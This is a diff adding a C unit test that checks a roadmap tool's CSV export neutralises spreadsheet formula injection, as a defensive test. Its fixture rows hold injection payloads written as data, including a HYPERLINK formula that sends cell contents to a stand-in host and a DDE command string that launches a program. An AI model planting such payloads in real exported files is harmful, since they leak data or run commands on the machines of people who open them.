@@ -308,6 +308,42 @@ test_exports(void **state)
 	rm_entries_free(&e);
 }
 
+/* Cells that a spreadsheet would run as formulas are text in the CSV export, and only there. */
+static void
+test_csv_formulas(void **state)
+{
+	static const char *const rows[][RM_NCOLS] = {
+	    {"ITU-T SG17", "=HYPERLINK(\"http://x.example/?\"&A1,\"update\")", "+cmd", "@SUM(A1:A9)",
+	        "-cmd|' /C calc'!A0", "General", "\tX.sec"},
+	    {"ITU-T SG17", "-5", "- draft", "Title with = inside", "Published", "-", "\rY.sec"},
+	};
+	struct fx *f = *state;
+	struct rm_entries e = {0};
+	struct buf b = {0};
+	long long d = add_doc(f->st, "<formula@example.org>", "Roadmap", 86400 * 20000);
+
+	file(f, d, 86400 * 20000, rows, 2, NULL);
+	assert_int_equal(roadmap_current(f->st, &e), 0);
+	assert_int_equal(e.n, 2);
+
+	roadmap_csv(&b, &e);
+	assert_non_null(strstr(b.s,
+	    "\r\nITU-T SG17,\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"update\"\")\",'+cmd,"
+	    "'@SUM(A1:A9),'-cmd|' /C calc'!A0,General,'\tX.sec,"));
+	assert_non_null(strstr(b.s, "\r\nITU-T SG17,-5,- draft,Title with = inside,Published,-,\"'\rY.sec\","));
+	buf_reset(&b);
+
+	/* The other exports show the cells as written. */
+	roadmap_md(&b, &e);
+	assert_non_null(strstr(b.s, "| +cmd |"));
+	assert_null(strstr(b.s, "'+cmd"));
+	buf_reset(&b);
+	roadmap_jsonl(&b, &e);
+	assert_non_null(strstr(b.s, "\"type\": \"+cmd\""));
+	buf_free(&b);
+	rm_entries_free(&e);
+}
+
 /* liaisonctl roadmap: exit statuses, -o, and the formats reaching the file. */
 static void
 test_ctl(void **state)
@@ -370,6 +406,7 @@ main(void)
 	    cmocka_unit_test_setup_teardown(test_versions, setup, teardown),
 	    cmocka_unit_test_setup_teardown(test_keys, setup, teardown),
 	    cmocka_unit_test_setup_teardown(test_exports, setup, teardown),
+	    cmocka_unit_test_setup_teardown(test_csv_formulas, setup, teardown),
 	    cmocka_unit_test_setup_teardown(test_ctl, setup, teardown),
 	};
 	return cmocka_run_group_tests(tests, NULL, NULL);
